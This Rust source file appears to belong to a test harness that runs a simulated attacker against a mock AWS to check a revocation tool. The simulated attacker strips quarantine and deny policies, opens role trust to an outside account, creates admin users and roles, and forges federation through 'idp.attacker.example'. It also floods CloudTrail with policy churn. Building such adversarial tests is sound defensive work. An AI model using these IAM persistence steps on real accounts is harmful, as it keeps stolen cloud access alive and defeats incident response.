//! Ways of an attacker that take more than one call: quotas, trusts, policies, accomplices, providers.

use fake_aws::oracle::{Tokens, Workload};
use fake_aws::{Caller, Request};
use jiff::SignedDuration;
use serde_json::json;

use super::{Doing, Later, id_of, texts};
use crate::stage::{ADMINISTRATOR, OUTSIDE, REGION, SHARED_ROLE, TEAM_POLICY, VICTIM_ROLE, allow, trust};

impl Doing<'_> {
    pub(super) fn later(&mut self, later: &Later) -> bool {
        match later {
            Later::Rename => self.rename(),
            Later::SetDefault(policy, version) => {
                self.done("SetDefaultPolicyVersion", json!({ "PolicyArn": policy, "VersionId": version }))
            }
            Later::Renew(role) => {
                let did = self.assume(role, "renewed", "us-east-1");
                if did {
                    self.renew_later(role);
                }
                did
            }
            Later::Federate { provider, role, saml } => self.start_federated(provider, role, *saml),
        }
    }

    fn renew_later(&mut self, role: &str) {
        let at = self.at + SignedDuration::from_secs(45);
        self.attacker.later.push((at, Later::Renew(role.to_owned())));
    }

    /// Takes off everything that could be a denial.
    pub(super) fn strip(&self, kind: &str, name: &str) -> bool {
        let of = format!("{kind}Name");
        let mut did = false;
        for policy in self.denials(kind, name) {
            did |= self.done(&format!("Delete{kind}Policy"), json!({ &of: name, "PolicyName": policy }));
        }
        let attached = self.iam(&format!("ListAttached{kind}Policies"), json!({ &of: name })).unwrap_or_default();
        for policy in attached["AttachedPolicies"].as_array().into_iter().flatten() {
            let arn = policy["PolicyArn"].as_str().unwrap_or_default();
            if arn.contains("AWSDenyAll") || arn.contains("Quarantine") {
                did |= self.done(&format!("Detach{kind}Policy"), json!({ &of: name, "PolicyArn": arn }));
            }
        }
        did
    }

    /// What is listed, and what everybody knows who has read this repository: a list may not show yet what was just written.
    pub(super) fn denials(&self, kind: &str, name: &str) -> Vec<String> {
        let inline = self.iam(&format!("List{kind}Policies"), json!({ format!("{kind}Name"): name }));
        let mut names = texts(inline.as_ref(), "PolicyNames");
        names.retain(|policy| policy != "work");
        for known in ["SeveranceQuarantine", "SeveranceRevokeOlderSessions"] {
            if !names.iter().any(|name| name == known) {
                names.push(known.to_owned());
            }
        }
        names
    }

    pub(super) fn fill_inline(&mut self, user: &str) -> bool {
        // As much as fits: AWS counts all inline policies of a user together, without white space.
        let mut did = false;
        for length in [1_900, 900, 400, 200, 100, 50] {
            let policy = self.unique("filler");
            let padding = "x".repeat(length);
            let document = json!({ "Version": "2012-10-17", "Statement": [
                { "Sid": padding, "Effect": "Allow", "Action": "s3:ListAllMyBuckets", "Resource": "*" },
            ] });
            let input = json!({ "UserName": user, "PolicyName": policy, "PolicyDocument": document.to_string() });
            did |= self.done("PutUserPolicy", input);
        }
        did
    }

    pub(super) fn fill_attachments(&mut self, user: &str) -> bool {
        let mut did = false;
        for _ in 0..10 {
            let name = self.unique("filler");
            let document = allow(&["s3:ListAllMyBuckets"]).to_string();
            let made = self.iam("CreatePolicy", json!({ "PolicyName": name, "PolicyDocument": document }));
            let Some(arn) = made.and_then(|made| id_of(&made, "Policy", "Arn")) else { continue };
            did |= self.done("AttachUserPolicy", json!({ "UserName": user, "PolicyArn": arn }));
        }
        did
    }

    pub(super) fn make_user(&mut self) -> Option<(String, String)> {
        let name = self.unique("helper");
        let made = self.iam("CreateUser", json!({ "UserName": name }))?;
        Some((name, id_of(&made, "User", "UserId")?))
    }

    pub(super) fn give_all(&self, kind: &str, name: &str) -> bool {
        let of = format!("{kind}Name");
        self.done(&format!("Attach{kind}Policy"), json!({ &of: name, "PolicyArn": ADMINISTRATOR }))
    }

    pub(super) fn give_by_group(&mut self) -> bool {
        let group = self.unique("helpers");
        let Some((user, _)) = self.make_user() else { return false };
        let keyed = self.mint_key(&user);
        self.done("CreateGroup", json!({ "GroupName": group }))
            && self.give_all("Group", &group)
            && self.done("AddUserToGroup", json!({ "GroupName": group, "UserName": user }))
            && keyed
    }

    pub(super) fn every_credential(&mut self, user: &(String, String)) -> bool {
        let given = self.give_all("User", &user.0);
        let keys = self.mint_key(&user.0) | self.mint_key(&user.0);
        self.mint_password(user);
        for _ in 0..2 {
            self.mint_ssh_key(user);
            self.mint_service_credential(user);
        }
        given | keys
    }

    /// A role with all rights that the attacker's own account may assume, and a session of it from there.
    pub(super) fn make_role(&self, name: &str) -> bool {
        let document = trust(&json!({ "AWS": format!("arn:aws:iam::{OUTSIDE}:root") })).to_string();
        let input = json!({ "RoleName": name, "AssumeRolePolicyDocument": document });
        self.done("CreateRole", input) && self.give_all("Role", name)
    }

    pub(super) fn open_trust(&self, role: &str, sid: &str) -> bool {
        self.open_trust_under(role, &[sid])
    }

    /// Lets the attacker's own account in beside whoever was let in.
    pub(super) fn open_trust_under(&self, role: &str, sids: &[&str]) -> bool {
        let mut statements = vec![json!({
            "Effect": "Allow", "Principal": { "AWS": format!("arn:aws:iam::{}:root", self.attacker.account) },
            "Action": "sts:AssumeRole",
        })];
        for sid in sids {
            statements.push(json!({
                "Sid": sid, "Effect": "Allow", "Principal": { "AWS": format!("arn:aws:iam::{OUTSIDE}:root") },
                "Action": "sts:AssumeRole",
            }));
        }
        let document = json!({ "Version": "2012-10-17", "Statement": statements }).to_string();
        self.done("UpdateAssumeRolePolicy", json!({ "RoleName": role, "PolicyDocument": document }))
    }

    pub(super) fn write_version(&self, as_default: bool) -> Option<(String, String)> {
        let policy = format!("arn:aws:iam::{}:policy/{TEAM_POLICY}", self.attacker.account);
        let input = json!({
            "PolicyArn": policy, "PolicyDocument": allow(&["*"]).to_string(), "SetAsDefault": as_default.to_string(),
        });
        let made = self.iam("CreatePolicyVersion", input)?;
        Some((policy, id_of(&made, "PolicyVersion", "VersionId")?))
    }

    /// Deletes the victim with all that hangs on it, and makes another of the same name.
    pub(super) fn recreate(&mut self) -> bool {
        let name = self.name();
        for key in self.keys_of(&name) {
            self.done("DeleteAccessKey", json!({ "UserName": name, "AccessKeyId": key }));
        }
        self.strip("User", &name);
        self.done("RemoveUserFromGroup", json!({ "GroupName": "builders", "UserName": name }));
        self.done("DeleteLoginProfile", json!({ "UserName": name }));
        // By the last session that still may: the keys are gone.
        if !self.done("DeleteUser", json!({ "UserName": name })) {
            return false;
        }
        self.done("CreateUser", json!({ "UserName": name })) && self.give_all("User", &name) && self.mint_key(&name)
    }

    pub(super) fn trust_itself(&mut self) -> bool {
        let document = json!({ "Version": "2012-10-17", "Statement": [{
            "Effect": "Allow", "Action": "sts:AssumeRole",
            "Principal": { "AWS": [format!("arn:aws:iam::{}:root", self.attacker.account), self.role_arn(SHARED_ROLE)] },
        }] });
        let input = json!({ "RoleName": SHARED_ROLE, "PolicyDocument": document.to_string() });
        if !self.done("UpdateAssumeRolePolicy", input) {
            return false;
        }
        let began = self.assume(SHARED_ROLE, "renewing", "us-east-1");
        self.renew_later(SHARED_ROLE);
        began
    }

    pub(super) fn federate(&mut self, saml: bool) -> bool {
        let made = if saml {
            let input = json!({ "Name": "partner", "SAMLMetadataDocument": "<EntityDescriptor/>".repeat(60) });
            self.iam("CreateSAMLProvider", input).and_then(|made| made["SAMLProviderArn"].as_str().map(str::to_owned))
        } else {
            let input = json!({ "Url": "https://idp.attacker.example", "ClientIDList": ["sts.amazonaws.com"] });
            let made = self.iam("CreateOpenIDConnectProvider", input);
            made.and_then(|made| made["OpenIDConnectProviderArn"].as_str().map(str::to_owned))
        };
        let Some(provider) = made else { return false };
        let audience = String::new();
        self.attacker.held.tokens.insert(Tokens { provider: provider.clone(), subject: None, audience });
        let name = self.unique("federated");
        let action = if saml { "sts:AssumeRoleWithSAML" } else { "sts:AssumeRoleWithWebIdentity" };
        let document = json!({ "Version": "2012-10-17", "Statement": [
            { "Effect": "Allow", "Principal": { "Federated": provider }, "Action": action },
        ] });
        let input = json!({ "RoleName": name, "AssumeRolePolicyDocument": document.to_string() });
        if !(self.done("CreateRole", input) && self.give_all("Role", &name)) {
            return false;
        }
        let role = self.role_arn(&name);
        self.start_federated(&provider, &role, saml);
        true
    }

    fn start_federated(&mut self, provider: &str, role: &str, saml: bool) -> bool {
        let (operation, input) = if saml {
            let assertion = json!({ "subject": "attacker" }).to_string();
            let input = json!({ "RoleArn": role, "PrincipalArn": provider, "SAMLAssertion": assertion });
            ("AssumeRoleWithSAML", input)
        } else {
            let token = json!({ "iss": "https://idp.attacker.example", "sub": "attacker", "aud": "sts.amazonaws.com" });
            let input = json!({ "RoleArn": role, "RoleSessionName": "w", "WebIdentityToken": token.to_string() });
            ("AssumeRoleWithWebIdentity", input)
        };
        let nobody = Caller::Anonymous { account: self.attacker.account.clone() };
        let answer = self.aws.call_as(self.at, nobody, Request::new("sts", operation, input)).ok();
        let did = self.take_session(answer);
        if !did && self.attacker.later.len() < 200 {
            // Not let in yet: what was just made is not enforced everywhere.
            let again = Later::Federate { provider: provider.to_owned(), role: role.to_owned(), saml };
            self.attacker.later.push((self.at + SignedDuration::from_secs(20), again));
        }
        did
    }

    pub(super) fn by_certificate(&mut self) -> bool {
        let name = self.unique("anywhere");
        let document = trust(&json!({ "Service": "rolesanywhere.amazonaws.com" })).to_string();
        let input = json!({ "RoleName": name, "AssumeRolePolicyDocument": document });
        if !(self.done("CreateRole", input) && self.give_all("Role", &name)) {
            return false;
        }
        let anchor = json!({
            "name": "anchor", "enabled": true,
            "source": { "sourceType": "CERTIFICATE_BUNDLE", "sourceData": { "x509CertificateData": "-----" } },
        });
        let anchor = self.attempt(&Request::new("rolesanywhere", "CreateTrustAnchor", anchor));
        let Some(anchor) = anchor.and_then(|made| id_of(&made, "trustAnchor", "trustAnchorArn")) else { return false };
        let profile = json!({ "name": "profile", "roleArns": [self.role_arn(&name)], "enabled": true });
        self.attacker.held.anchors.insert(anchor);
        self.attempt(&Request::new("rolesanywhere", "CreateProfile", profile)).is_some()
    }

    pub(super) fn by_instance(&mut self) -> bool {
        let name = self.unique("instance");
        let document = trust(&json!({ "Service": "ec2.amazonaws.com" })).to_string();
        let made = self.iam("CreateRole", json!({ "RoleName": name, "AssumeRolePolicyDocument": document }));
        let Some(id) = made.and_then(|made| id_of(&made, "Role", "RoleId")) else { return false };
        let profile = json!({ "InstanceProfileName": name });
        let did = self.give_all("Role", &name)
            && self.done("CreateInstanceProfile", profile)
            && self.done("AddRoleToInstanceProfile", json!({ "InstanceProfileName": name, "RoleName": name }))
            && self.attempt(&Request::new("ec2", "RunInstances", json!({ "InstanceProfile": name }))).is_some();
        if did {
            let (account, service) = (self.attacker.account.clone(), "ec2.amazonaws.com".to_owned());
            self.attacker.held.workloads.insert(Workload { account, role: id, service });
        }
        did
    }

    pub(super) fn many_profiles(&self) -> bool {
        let account = format!("arn:aws:iam::{}:root", self.attacker.account);
        let document = trust(&json!({ "AWS": account, "Service": "rolesanywhere.amazonaws.com" })).to_string();
        let input = json!({ "RoleName": VICTIM_ROLE, "PolicyDocument": document });
        let mut did = self.done("UpdateAssumeRolePolicy", input);
        for n in 0..45 {
            let profile = json!({ "name": format!("p{n}"), "roleArns": [self.role_arn(VICTIM_ROLE)], "enabled": true });
            let request = Request::new("rolesanywhere", "CreateProfile", profile).in_region(REGION);
            did |= self.attempt(&request).is_some();
        }
        did
    }

    /// By every key that there is, for CloudTrail is asked by key, and four pages of each are read.
    pub(super) fn change_rights_often(&mut self) -> bool {
        let name = self.name();
        self.mint_key(&name);
        let user = "u".repeat(64);
        let made = self.done("CreateUser", json!({ "UserName": user }));
        let path = format!("/{}/", "p".repeat(500));
        let document = allow(&["s3:ListAllMyBuckets"]).to_string();
        let input = json!({ "PolicyName": "n".repeat(128), "Path": path, "PolicyDocument": document });
        let Some(policy) = self.iam("CreatePolicy", input).and_then(|made| id_of(&made, "Policy", "Arn")) else {
            return false;
        };
        let input = json!({ "UserName": user, "PolicyArn": policy });
        let credentials = self.attacker.credentials.clone();
        for (n, credential) in (0..).zip(credentials.iter().flat_map(|of| std::iter::repeat_n(of, 100))) {
            // Each second anew: what is said twice is kept once.
            let at = self.at + SignedDuration::from_secs(n);
            for operation in ["AttachUserPolicy", "DetachUserPolicy"] {
                let _ = self.aws.call_at(at, credential, Request::new("iam", operation, input.clone()));
            }
        }
        made
    }
}
